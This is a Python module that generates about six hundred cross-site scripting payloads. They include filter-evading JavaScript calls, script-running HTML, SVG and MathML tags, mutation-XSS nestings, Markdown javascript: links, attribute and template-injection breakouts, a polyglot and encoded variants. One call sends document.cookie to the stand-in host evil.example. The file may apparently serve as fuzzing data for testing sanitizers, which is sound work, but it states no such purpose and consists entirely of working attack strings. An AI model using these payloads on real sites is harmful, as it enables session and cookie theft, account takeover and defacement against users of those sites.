"""Six hundred texts that would run a script wherever text becomes markup, an address, an attribute or a template."""

from collections.abc import Iterator
from itertools import chain
from urllib.parse import quote

RUN = "alert(1)"
LETTERS = "String.fromCharCode(97,108,101,114,116,40,49,41)"

CALLS = (  # what runs, in forms that filters miss
    RUN,
    "window.ran=1",
    "self['al'+'ert'](1)",
    "top[/al/.source+/ert/.source](1)",
    "(0,eval)(atob`YWxlcnQoMSk=`)",
    f"eval({LETTERS})",
    "alert`1`",
    "[1].find(alert)",
    "import('data:text/javascript,alert(1)')",
    "setTimeout`alert\\x281\\x29`",
    "Function('ale'+'rt(1)')()",
    "location='javascript:alert%281%29'",
    "onerror=alert;throw 1",
    "document.body.innerHTML='<img src=x onerror=alert(1)>'",
    "fetch('https://evil.example/'+document.cookie)",
)
TAGS = (  # elements that run a script by themselves; {} is the call
    "<script>{}</script>",
    "<SCRIPT>{}</SCRIPT>",
    "<script/x>{}</script>",
    "<script\n>{}</script\n>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<<script>{}//<</script>",
    "</p><script>{}</script><p>",
    "</title></textarea></style></noscript></xmp><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "`><script>{}</script>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    "<IMG SRC=x OnErRoR={}>",
    "<img/src=x/onerror={}>",
    "<img\tsrc=x\nonerror\r=\f{}>",
    "<img src=`x` onerror={}>",
    '"><img src=x onerror={}>',
    "'\"><img src=x onerror={}>",
    "<image src=x onerror={}>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributeName=x>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{}'></svg>#x\">",
    "<svg><foreignObject><body onload={}></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}></style></mglyph></table></mtext></math>",
    "<math><mi//xlink:href='javascript:{}'>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<style><img src=x onerror={}></style>",
    "<style>*{{background:url('javascript:{}')}}</style>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe onload={}></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<body onload={}>",
    "<body onpageshow={}>",
    "<input autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<button autofocus onfocus={}>x",
    "<details open ontoggle={}>",
    "<video src=x onerror={}></video>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>x</marquee>",
    "<div style=animation-name:x onanimationstart={}>x</div>",
    "<div style='width:expression({})'>x</div>",
    "<link rel=stylesheet href='javascript:{}'>",
    "<link rel=import href='data:text/html,<script>{}</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<p onmouseover={}>x</p>",
    "<p tabindex=0 autofocus onfocus={}>x</p>",
    "<a href='javascript:{}'>x</a>",
    "<a href='&#106;avascript:{}'>x</a>",
    "<a href='java\tscript:{}'>x</a>",
    "<a href='data:text/html,<script>{}</script>'>x</a>",
    "<form action='javascript:{}'><button>x</button></form>",
    "<button formaction='javascript:{}'>x</button>",
    "<isindex type=image src=x onerror={}>",
    "<template><script>{}</script></template>",
    "<dialog open oncancel={}>x</dialog>",
    "<custom-element onclick={}>x</custom-element>",
    "<xmp><p title='</xmp><img src=x onerror={}>'>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[><img src=x onerror={}>]]>",
    "<?xml version='1.0'?><script>{}</script>",
    "\u003cimg src=x onerror={}\u003e",
    "&lt;img src=x onerror={}&gt;",
    "&#60;img src=x onerror={}&#62;",
    "\\u003cimg src=x onerror={}\\u003e",
    "%3Cimg src=x onerror={}%3E",
    "＜script＞{}＜/script＞",
    "<img src=x onerror={}",
    "<\x00script>{}</script>",
    "<a\u200bhref='javascript:{}'>x</a>",
)
MARKDOWN = (  # links, pictures and code that a reader of Markdown makes of text
    "[x](javascript:{})",
    "[x](JaVaScRiPt:{})",
    "[x](javascript&colon;{})",
    "[x](&#106;&#97;vascript:{})",
    "[x](java&Tab;script:{})",
    "[x]( javascript:{})",
    "[x](\x01javascript:{})",
    "[x](vbscript:{})",
    "[x](data:text/html,<script>{}</script>)",
    "[x](file:///{})",
    "[x](//evil.example/{})",
    "[x](https://a.example/ 'onmouseover={}')",
    '[x](https://a.example/"onmouseover="{})',
    "[x](<javascript:{}>)",
    "[x][1]\n\n[1]: javascript:{}",
    "[x](https://a.example/<img src=x onerror={}>)",
    "[<img src=x onerror={}>](https://a.example/)",
    "![x](javascript:{})",
    "![x](https://evil.example/pixel.gif?{})",
    '![x"onerror="{}](x)',
    "![x](x 'onerror={}')",
    "<javascript:{}>",
    "<https://a.example/><script>{}</script>",
    "`<img src=x onerror={}>`",
    "```html\n<script>{}</script>\n```",
    "```\n</code></pre><script>{}</script>\n```",
    "    <script>{}</script>",
    "> <script>{}</script>",
    "- <script>{}</script>",
    "# <script>{}</script>",
    "<div>\n\n[x](javascript:{})\n\n</div>",
    "**<b onclick={}>x</b>**",
    "*[x](javascript:{})*",
    "\\<script>{}</script>",
    "<a href=\"https://a.example/\" onclick=\"{}\">x</a>",
)  # fmt: skip
SPOTS = (  # what breaks out of an attribute, a script, a style, a template or a sheet
    '" onmouseover="{}',
    "' onmouseover='{}",
    '" autofocus onfocus="{}" x="',
    "\"-{}-\"",
    "';{}//",
    '";{}//',
    "</script><script>{}</script>",
    "*/{}/*",
    "${{{}}}",
    "{{{{{}}}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{% load i18n %}}{{{{ {} }}}}",
    "#{{{}}}",
    "<%= {} %>",
    "javascript:{}",
    "javascript://a.example/%0a{}",
    "data:text/html,<script>{}</script>",
    "expression({})",
    "url(javascript:{})",
    "\u2028{}\u2029",
    '{{"__html":"<img src=x onerror={}>"}}',
    ("jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd={}//>\\x3e"),
)  # fmt: skip


def _with_plain_calls() -> Iterator[str]:
    """Each form once with each of two calls."""
    for form in (*TAGS, *MARKDOWN, *SPOTS):
        for call in CALLS[:2]:
            yield form.format(call, call)


def _with_hidden_calls() -> Iterator[str]:
    """The forms in turn with the calls that hide."""
    forms = (*TAGS, *MARKDOWN, *SPOTS)
    for number, form in enumerate(chain(forms, forms)):
        call = CALLS[2 + number % (len(CALLS) - 2)]
        yield form.format(call, call)


def _written_otherwise() -> Iterator[str]:
    """Some of them as a sloppy program would decode them once more."""
    for number, form in enumerate(TAGS[:60]):
        text = form.format(RUN)
        yield (quote(text), text.encode().hex(), text[::-1], "".join(f"&#{ord(sign)};" for sign in text))[number % 4]


SCRIPTS = tuple(dict.fromkeys([*_with_plain_calls(), *_with_hidden_calls(), *_written_otherwise()]))
